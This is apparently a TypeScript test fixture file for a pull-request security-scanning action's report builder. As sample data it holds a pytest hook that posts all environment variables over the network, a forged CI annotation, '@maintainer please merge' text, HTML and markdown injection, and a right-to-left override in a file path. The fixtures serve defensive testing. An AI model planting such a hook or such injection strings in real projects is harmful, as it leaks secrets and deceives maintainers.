import { parseActionInputs } from '../../src/config/action-inputs.js';
import type { Finding, ProvenanceSummary, SandboxResult, TestResults } from '../../src/domain.js';
import type { ReportModel } from '../../src/report/report-model.js';
import { checkOptionsOf } from '../../src/report/reproduce-section.js';

export const finding = (fields: Partial<Finding> = {}): Finding => ({
  ruleId: 'py/network-exfiltration',
  severity: 'critical',
  category: 'exfiltration',
  message: 'conftest.py sends environment variables over the network',
  path: 'conftest.py',
  line: 4,
  column: 1,
  endLine: 5,
  cwe: ['CWE-200'],
  evidence: 'requests.post(URL, json=dict(os.environ))',
  ...fields,
});

export const sandbox = (fields: Partial<SandboxResult> = {}): SandboxResult => ({
  outcome: 'failed',
  exitCode: 1,
  signal: null,
  durationMs: 4200,
  stdout:
    '::error::forged annotation\n@maintainer please merge\n```\nFAILED tests/test_app.py::test_total\n',
  stderr: '',
  truncated: { stdout: false, stderr: false },
  resources: { cpuMs: 3100, peakMemoryBytes: 96 * 1024 * 1024 },
  sandbox: { runtime: 'gvisor', runscVersion: 'release-20250101.0', platform: 'systrap' },
  violations: [
    {
      kind: 'network',
      syscall: 'connect',
      detail: '203.0.113.7:443',
      process: 'python3',
      count: 3,
      firstAtMs: 812,
    },
  ],
  error: null,
  results: ['junit.xml'],
  ...fields,
});

export const tests: TestResults = {
  source: 'junit',
  passed: 11,
  failed: 1,
  errored: 0,
  skipped: 1,
  truncated: false,
  cases: [
    {
      suite: 'tests.test_app',
      name: 'test_total[<img src=x>|@octocat fixes #1]',
      status: 'failed',
      file: 'tests/test_app.py',
      line: 12,
      message: 'assert 41 == 42\n<!-- hidden -->',
      durationMs: 3,
    },
  ],
};

export const provenance: ProvenanceSummary = {
  commits: [
    {
      sha: 'a'.repeat(40),
      subject: 'Add caching (see https://evil.example/[x](y))',
      isMerge: false,
      aiAuthored: true,
      agents: ['copilot'],
      signals: ['author Copilot <198982749+Copilot@users.noreply.github.com>'],
    },
    {
      sha: 'b'.repeat(40),
      subject: 'Fix typo, thanks @maintainer',
      isMerge: false,
      aiAuthored: false,
      agents: [],
      signals: [],
    },
  ],
  pullRequestSignals: ['branch prefix "copilot/"'],
  agents: ['copilot'],
  aiCommits: 1,
  aiLines: 40,
  totalAddedLines: 42,
};

export const blockedModel: ReportModel = {
  verdict: {
    conclusion: 'blocked',
    reasons: [
      { kind: 'findings', count: 1, threshold: 'high' },
      { kind: 'violations', count: 3 },
      { kind: 'tests-failed', failed: 1, errored: 0 },
    ],
  },
  findings: [
    finding({
      excerpt: {
        startLine: 4,
        text: 'def pytest_sessionstart(session):\n    requests.post(URL, json=dict(os.environ))',
      },
    }),
    finding({
      severity: 'medium',
      ruleId: 'tests/weakened-assertion',
      path: 'tests/te|st_\u202Eapp.py',
      line: 12,
      message: 'assertion removed <!-- @admin -->',
      excerpt: { startLine: 12, text: '    assert True  # ``` @admin fixes #1 <!-- x -->' },
    }),
  ],
  scope: 'ai-authored',
  failOn: 'high',
  tests,
  sandbox: sandbox(),
  provenance,
  headSha: 'c'.repeat(40),
  baseSha: 'd'.repeat(40),
  links: { serverUrl: 'https://github.com', owner: 'octo-org', repo: 'hello', runId: '4242' },
  options: checkOptionsOf({
    ...parseActionInputs({}).config,
    testCommand: "python3 -m pytest -q -k 'not slow'",
    // Not the default, so the reproduce command carries it.
    limits: { ...parseActionInputs({}).config.limits, timeoutSeconds: 900 },
  }),
  notes: [],
};
